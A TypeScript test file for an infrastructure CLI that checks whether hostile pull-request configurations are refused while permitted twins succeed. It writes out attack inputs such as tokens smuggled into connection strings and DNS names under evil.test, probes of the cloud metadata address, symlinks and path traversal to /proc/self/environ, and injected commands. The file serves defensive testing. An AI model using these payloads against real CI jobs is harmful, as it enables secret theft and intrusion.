/**
 * A malicious author of a pull request, who controls every file of the repository, against the jobs that run on it with
 * the secrets of the environment. Each attack has an honest twin: a user to whom the environment, the command line or
 * the repository permits the same, for whom the same recorder sees the connection, the read or the write. A plan that
 * merely stops would pass the attack and fail the twin.
 */

import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type Bait, startBait } from '../support/bait.ts';
import { bareEnvironment, certificateYaml, cliFile, issuerYaml, temporaryFolder, writeFiles } from '../support/cli.ts';
import { type Trace, traced } from '../support/trace.ts';

const SECRET = 'canary-7c41d0e9b6';
const METADATA = '169.254.169.254';

/** The machine's files, and the input of a run. */
interface Stage {
  /** The checkout: a git repository. */
  readonly repo: string;
  /** A folder of the machine that is not part of it, with `private.txt`. */
  readonly outside: string;
  readonly bait: Bait;
}

interface Seen {
  readonly trace: Trace;
  readonly heard: string;
  readonly stage: Stage;
}

interface Run {
  readonly files: (stage: Stage) => void;
  readonly env?: (stage: Stage) => Readonly<Record<string, string>>;
  readonly args?: readonly string[];
}

interface Attack {
  readonly name: string;
  readonly hostile: Run;
  readonly honest: Run;
  /** The target of the attack, as the recorder sees it. */
  readonly sees: (seen: Seen) => boolean;
  /** A network in which only the loopback link can be reached. */
  readonly alone?: true;
  /** The attacked command saves a plan: that write is its own. */
  readonly saves?: true;
}

/** Secrets that a job has in its environment. */
const secrets = {
  HCLOUD_TOKEN: `${SECRET}-hcloud`,
  WORKLOADS_TOKEN: `${SECRET}-workloads`,
  PGPASSWORD: `${SECRET}-pg`,
  DEPLOY_KEY: `${SECRET}-deploy`,
};

function project(config: string, documents: Readonly<Record<string, string>> = {}): Run['files'] {
  return ({ repo, bait, outside }) => {
    const fill = (text: string) => text.replaceAll('@PORT@', String(bait.port)).replaceAll('@OUTSIDE@', outside);
    writeFiles(repo, {
      'fettle.yaml': fill(config),
      'desired/ca.yaml': issuerYaml,
      ...Object.fromEntries(Object.entries(documents).map(([name, text]) => [name, fill(text)])),
    });
  };
}

const plain = 'name: shop\nstore: .fettle\n';
const nodes = (config: string): string => `${plain}plugins:\n  nodes:\n${config.replaceAll(/^/gmu, '    ')}\n`;

function nodeYaml(name: string, spec: string): string {
  return `apiVersion: nodes/v1\nkind: Node\nmetadata: { name: ${name} }\nspec: ${spec}\n`;
}

function domainYaml(spec: string): string {
  return `apiVersion: certificates/v1\nkind: Domain\nmetadata: { name: probed }\nspec: ${spec}\n`;
}

const cloudNode = nodeYaml('web', '{ serverType: cx23, image: debian-13, location: nbg1 }');
const hears = ({ heard }: Seen): boolean => heard.includes(SECRET);
const connects =
  (host: string, port?: number) =>
  ({ trace, stage }: Seen): boolean =>
    trace.connections.includes(`${host}:${port ?? stage.bait.port}`);
const reads =
  (...names: readonly string[]) =>
  ({ trace, stage }: Seen): boolean =>
    names.some((name) => trace.reads.includes(join(stage.outside, name)));

/** A project that was applied here before. */
function storeIn(at: Stage): void {
  project(plain)(at);
  execFileSync(process.execPath, [cliFile, 'apply', '--yes'], { cwd: at.repo, env: bareEnvironment(), stdio: 'pipe' });
}

const storeOrigin = { env: ({ bait }: Stage) => ({ FETTLE_STORE_ORIGIN: `postgres://127.0.0.1:${bait.port}` }) };
const providerOrigin = {
  env: ({ bait }: Stage) => ({
    FETTLE_PROVIDER_ORIGINS: `HCLOUD_TOKEN=http://127.0.0.1:${bait.port},WORKLOADS_TOKEN=http://127.0.0.1:${bait.port}`,
  }),
};

/** The same repository twice: only the environment differs. */
function byEnvironment(name: string, files: Run['files'], honest: Pick<Run, 'env'>, sees: Attack['sees']): Attack {
  return { name, hostile: { files }, honest: { files, ...honest }, sees };
}

const attacks: readonly Attack[] = [
  byEnvironment(
    'the token of the cloud, as the password of the store',
    project('name: shop\nstore: "postgres://x:${env:HCLOUD_TOKEN}@127.0.0.1:@PORT@/x"\n'),
    storeOrigin,
    hears,
  ),
  byEnvironment(
    'PGPASSWORD, to the address in `store`',
    project('name: shop\nstore: "postgres://x@127.0.0.1:@PORT@/x"\n'),
    storeOrigin,
    hears,
  ),
  {
    name: 'PGPASSWORD, to a host in the parameters of the store',
    hostile: {
      files: project('name: shop\nstore: "postgres://x@db.example.test/x?host=127.0.0.1&port=@PORT@"\n'),
      env: () => ({ FETTLE_STORE_ORIGIN: 'postgres://db.example.test' }),
    },
    honest: { files: project('name: shop\nstore: "postgres://x@127.0.0.1:@PORT@/x"\n'), ...storeOrigin },
    sees: hears,
  },
  {
    name: 'a secret as a host name, for the server of DNS to hear',
    hostile: { files: project('name: shop\nstore: "postgres://u@${env:HCLOUD_TOKEN}.evil.test/x"\n') },
    honest: {
      files: project(plain, {
        'desired/domain.yaml': domainYaml('{ host: web.evil.test }'),
      }),
    },
    alone: true,
    // The resolver reads its configuration, and asks; how it asks is the machine's affair.
    sees: ({ trace }) => trace.reads.includes('/etc/resolv.conf') || trace.connections.some((to) => to.endsWith(':53')),
  },
  {
    name: 'a file of the machine, as the root certificate of the store',
    hostile: {
      files: project(
        'name: shop\nstore: "postgres://x@127.0.0.1:@PORT@/x?sslmode=verify-full&sslrootcert=@OUTSIDE@/private.txt"\n',
      ),
      env: storeOrigin.env,
    },
    honest: {
      files: project('name: shop\nstore: "postgres://x@127.0.0.1:@PORT@/x"\n'),
      env: (stage) => ({
        ...storeOrigin.env(stage),
        PGSSLMODE: 'verify-full',
        PGSSLROOTCERT: join(stage.outside, 'private.txt'),
      }),
    },
    sees: reads('private.txt'),
  },
  byEnvironment(
    'the token of the cloud, to another port of this machine',
    project(nodes('provider: { hetzner: { endpoint: "http://127.0.0.1:@PORT@/v1" } }'), {
      'desired/web.yaml': cloudNode,
    }),
    providerOrigin,
    hears,
  ),
  {
    name: 'any other variable, to the API of the cloud',
    hostile: {
      files: project(nodes('provider: { hetzner: { token: "${env:DEPLOY_KEY}" } }'), { 'desired/web.yaml': cloudNode }),
      env: ({ bait }) => ({ HCLOUD_ENDPOINT: `http://127.0.0.1:${bait.port}/v1` }),
    },
    honest: {
      files: project(nodes('provider: { hetzner: { token: "${env:HCLOUD_TOKEN}" } }'), {
        'desired/web.yaml': cloudNode,
      }),
      env: ({ bait }) => ({ HCLOUD_ENDPOINT: `http://127.0.0.1:${bait.port}/v1` }),
    },
    sees: hears,
  },
  byEnvironment(
    'a token, to a workload source',
    project(
      nodes('workloads: { http: { url: "http://127.0.0.1:@PORT@/workloads", token: "${env:WORKLOADS_TOKEN}" } }'),
      {
        'desired/web.yaml': nodeYaml(
          'web',
          '{ provider: static, address: 127.0.0.1, readiness: { tcp: { port: 1 } } }',
        ),
      },
    ),
    providerOrigin,
    hears,
  ),
  {
    name: 'the metadata of the machine, by the readiness of a static node',
    hostile: {
      files: project(plain, {
        'desired/web.yaml': nodeYaml(
          'web',
          `{ provider: static, address: ${METADATA}, readiness: { http: { port: 80, path: "/latest/meta-data" } } }`,
        ),
      }),
    },
    honest: {
      files: project(plain, {
        'desired/web.yaml': nodeYaml(
          'web',
          `{ provider: static, address: ${METADATA}, readiness: { http: { port: 80, path: "/latest/meta-data" } } }`,
        ),
      }),
      env: () => ({ FETTLE_ALLOW_NETWORKS: `${METADATA}/32` }),
    },
    alone: true,
    sees: connects(METADATA, 80),
  },
  {
    name: 'the metadata of the machine, written as an IPv6 address',
    hostile: {
      files: project(plain, {
        'desired/web.yaml': nodeYaml(
          'web',
          `{ provider: static, address: "::ffff:${METADATA}", readiness: { tcp: { port: 80 } } }`,
        ),
      }),
    },
    honest: {
      files: project(plain, {
        'desired/web.yaml': nodeYaml('web', '{ provider: static, address: "::1", readiness: { tcp: { port: 80 } } }'),
      }),
    },
    alone: true,
    sees: ({ trace }) => trace.connections.some((to) => to.endsWith(':80')),
  },
  {
    name: 'the metadata of the machine, as a workload source',
    hostile: {
      files: project(nodes(`workloads: { http: { url: "http://${METADATA}/latest/meta-data" } }`), {
        'desired/web.yaml': nodeYaml(
          'web',
          '{ provider: static, address: 127.0.0.1, readiness: { tcp: { port: 1 } } }',
        ),
      }),
    },
    honest: {
      files: project(nodes('workloads: { http: { url: "http://127.0.0.1:80/latest/meta-data" } }'), {
        'desired/web.yaml': nodeYaml(
          'web',
          '{ provider: static, address: 127.0.0.1, readiness: { tcp: { port: 1 } } }',
        ),
      }),
    },
    alone: true,
    sees: ({ trace }) => trace.connections.some((to) => to.endsWith(':80')),
  },
  {
    name: 'the metadata of the machine, by a probe that `fettle.yaml` allows itself',
    hostile: {
      files: project(`${plain}plugins: { certificates: { probe: { allow: [${METADATA}/32] } } }\n`, {
        'desired/domain.yaml': domainYaml(`{ host: a.test, address: ${METADATA} }`),
      }),
    },
    honest: {
      files: project(plain, { 'desired/domain.yaml': domainYaml(`{ host: a.test, address: ${METADATA} }`) }),
      env: () => ({ FETTLE_ALLOW_NETWORKS: `${METADATA}/32` }),
    },
    alone: true,
    sees: connects(METADATA, 443),
  },
  {
    name: 'the metadata of the machine, as a resolver of names',
    hostile: {
      files: project(`${plain}plugins: { certificates: { probe: { resolvers: ["${METADATA}:53"] } } }\n`, {
        'desired/domain.yaml': domainYaml('{ host: a.test }'),
      }),
    },
    honest: {
      files: project(`${plain}plugins: { certificates: { probe: { resolvers: ["127.0.0.1:53"] } } }\n`, {
        'desired/domain.yaml': domainYaml('{ host: a.test }'),
      }),
    },
    alone: true,
    sees: ({ trace }) => trace.connections.some((to) => to.endsWith(':53')),
  },
  {
    name: 'the metadata of the machine, as the store',
    hostile: {
      files: project(`name: shop\nstore: "postgres://x@${METADATA}:5432/x"\n`),
      env: () => ({ FETTLE_STORE_ORIGIN: `postgres://${METADATA}:5432` }),
    },
    honest: {
      files: project('name: shop\nstore: "postgres://x@127.0.0.1:5432/x"\n'),
      env: () => ({ FETTLE_STORE_ORIGIN: 'postgres://127.0.0.1:5432' }),
    },
    alone: true,
    sees: ({ trace }) => trace.connections.some((to) => to.endsWith(':5432')),
  },
  {
    name: 'a file of the machine, as fettle.yaml',
    hostile: {
      files: ({ repo, outside }) => {
        writeFiles(repo, { 'desired/ca.yaml': issuerYaml });
        symlinkSync(join(outside, 'private.txt'), join(repo, 'fettle.yaml'));
      },
    },
    honest: {
      files: ({ repo }) => writeFiles(repo, { 'desired/ca.yaml': issuerYaml }),
      args: ['plan', '--config', '@OUTSIDE@/private.txt'],
    },
    sees: reads('private.txt'),
  },
  {
    name: 'a file of the machine, as a document by a link',
    hostile: {
      files: (stage) => {
        project(plain)(stage);
        symlinkSync(join(stage.outside, 'private.txt'), join(stage.repo, 'desired/more.yaml'));
      },
    },
    honest: {
      files: project(plain),
      args: ['validate', '@OUTSIDE@/private.txt'],
    },
    sees: reads('private.txt'),
  },
  {
    name: 'folders of the machine, by a pattern',
    hostile: { files: project('name: shop\nstore: .fettle\ndesired: [desired/, "@OUTSIDE@/**"]\n') },
    honest: { files: project(plain), args: ['validate', '@OUTSIDE@/private.yaml'] },
    sees: (seen) =>
      reads('private.yaml')(seen) || `${seen.trace.ran.stdout}${seen.trace.ran.stderr}`.includes('unguessable-name'),
  },
  ...(['private.txt', '../../../../../../../../proc/self/environ'] as const).map(
    (path): Attack => ({
      name: `a file of the machine, as the user data of a server: ${path}`,
      hostile: {
        files: project(plain, {
          'desired/web.yaml': nodeYaml(
            'web',
            `{ serverType: cx23, image: debian-13, location: nbg1, userDataFile: "@OUTSIDE@/${path}" }`,
          ),
        }),
        env: ({ bait }) => ({ HCLOUD_ENDPOINT: `http://127.0.0.1:${bait.port}/v1` }),
      },
      honest: {
        files: project(plain, {
          'desired/web.yaml': nodeYaml(
            'web',
            '{ serverType: cx23, image: debian-13, location: nbg1, userDataFile: "@OUTSIDE@/private.txt" }',
          ),
        }),
        env: ({ bait, outside }) => ({
          HCLOUD_ENDPOINT: `http://127.0.0.1:${bait.port}/v1`,
          FETTLE_FILE_ROOTS: outside,
        }),
      },
      sees: ({ trace, stage }) =>
        trace.reads.some((read) => read === join(stage.outside, 'private.txt') || read.endsWith('/self/environ')),
    }),
  ),
  {
    name: 'a file of the machine, as a list of workloads',
    hostile: {
      files: project(nodes('workloads: { file: "@OUTSIDE@/private.txt" }'), {
        'desired/web.yaml': nodeYaml(
          'web',
          '{ provider: static, address: 127.0.0.1, readiness: { tcp: { port: 1 } } }',
        ),
      }),
    },
    honest: {
      files: project(nodes('workloads: { file: "@OUTSIDE@/private.txt" }'), {
        'desired/web.yaml': nodeYaml(
          'web',
          '{ provider: static, address: 127.0.0.1, readiness: { tcp: { port: 1 } } }',
        ),
      }),
      env: ({ outside }) => ({ FETTLE_FILE_ROOTS: outside }),
    },
    sees: reads('private.txt'),
  },
  {
    name: 'a file of the machine, as a secret',
    hostile: {
      files: project(nodes('provider: { hetzner: { token: "${file:@OUTSIDE@/hcloud-token}" } }'), {
        'desired/web.yaml': cloudNode,
      }),
      env: ({ bait }) => ({ HCLOUD_ENDPOINT: `http://127.0.0.1:${bait.port}/v1` }),
    },
    honest: {
      files: project(nodes('provider: { hetzner: { token: "${file:@OUTSIDE@/hcloud-token}" } }'), {
        'desired/web.yaml': cloudNode,
      }),
      env: ({ bait, outside }) => ({ HCLOUD_ENDPOINT: `http://127.0.0.1:${bait.port}/v1`, FETTLE_FILE_ROOTS: outside }),
    },
    sees: reads('hcloud-token'),
  },
  {
    name: 'a store that came with the checkout, for what it says of ownership',
    hostile: {
      files: (at) => {
        storeIn(at);
        execFileSync('git', ['-C', at.repo, 'add', '-f', '.fettle']);
      },
    },
    honest: { files: storeIn },
    sees: ({ trace, stage: at }) => trace.reads.some((path) => path.startsWith(join(at.repo, '.fettle/log'))),
  },
  {
    name: 'a file of the machine, overwritten by the plan that is saved through a link',
    hostile: {
      files: (at) => {
        project(plain)(at);
        symlinkSync(join(at.outside, 'victim.txt'), join(at.repo, 'plan.json'));
      },
      args: ['plan', '-o', 'plan.json'],
    },
    honest: { files: project(plain), args: ['plan', '-o', '@OUTSIDE@/victim.txt'] },
    saves: true,
    sees: ({ stage: at }) => !readFileSync(join(at.outside, 'victim.txt'), 'utf8').startsWith('precious'),
  },
  {
    name: 'a command of his own, at plan',
    hostile: {
      files: project(`${plain}plugins: { certificates: { commands: [[touch, pwned]] } }\n`, {
        'desired/www.yaml': certificateYaml('www').replace(
          'spec:',
          'spec:\n  deploy: { command: [touch, pwned] }\n  reload: { command: [touch, pwned] }',
        ),
      }),
    },
    honest: {
      files: project(`${plain}plugins: { certificates: { commands: [[touch, pwned]] } }\n`, {
        'desired/www.yaml': certificateYaml('www').replace('spec:', 'spec:\n  deploy: { command: [touch, pwned] }'),
      }),
      args: ['apply', '--yes'],
    },
    sees: ({ trace }) => trace.programs.some((program) => program.endsWith('/touch')),
  },
];

let stage: Stage;
let bait: Bait;

beforeAll(async () => {
  bait = await startBait();
});
afterAll(() => bait.close());

function newStage(): Stage {
  const repo = temporaryFolder();
  const outside = temporaryFolder();
  execFileSync('git', ['init', '-q', repo]);
  writeFileSync(join(outside, 'private.txt'), `${SECRET}-file: [1, 2\n`);
  writeFileSync(join(outside, 'private.yaml'), `${SECRET}-yaml: 1\n`);
  writeFileSync(join(outside, 'hcloud-token'), `${SECRET}-token\n`);
  writeFileSync(join(outside, 'victim.txt'), 'precious\n');
  mkdirSync(join(outside, 'unguessable-name'));
  writeFileSync(join(outside, 'unguessable-name/x.yaml'), 'a: 1\n');
  bait.heard();
  return { repo, outside, bait };
}

beforeEach(() => {
  stage = newStage();
});
async function runOf({ files, env, args = ['plan'] }: Run, alone: boolean): Promise<Seen> {
  files(stage);
  const given = args.map((word) => word.replaceAll('@OUTSIDE@', stage.outside));
  const trace = await traced(stage.repo, given, {
    env: { ...secrets, ...env?.(stage) },
    ...(alone ? { alone: { addresses: [`${METADATA}/32`] } } : {}),
  });
  // Otherwise nothing was recorded.
  expect(trace.calls).toBeGreaterThan(10);
  return { trace, heard: bait.heard(), stage };
}

describe.each(attacks)('$name', ({ hostile, honest, sees, alone, saves }) => {
  it('is refused', async () => {
    const seen = await runOf(hostile, alone === true);
    const { trace } = seen;
    expect(sees(seen)).toBe(false);
    expect([saves === true ? [] : trace.writes, trace.programs]).toEqual([[], []]);
    expect(`${trace.ran.stdout}${trace.ran.stderr}`).not.toContain(SECRET);
    expect(seen.heard).not.toContain(SECRET);
  });

  it('is seen if it is allowed', async () => {
    const seen = await runOf(honest, alone === true);
    expect([sees(seen), seen.trace.ran.stdout + seen.trace.ran.stderr]).toEqual([true, expect.anything()]);
  });
});
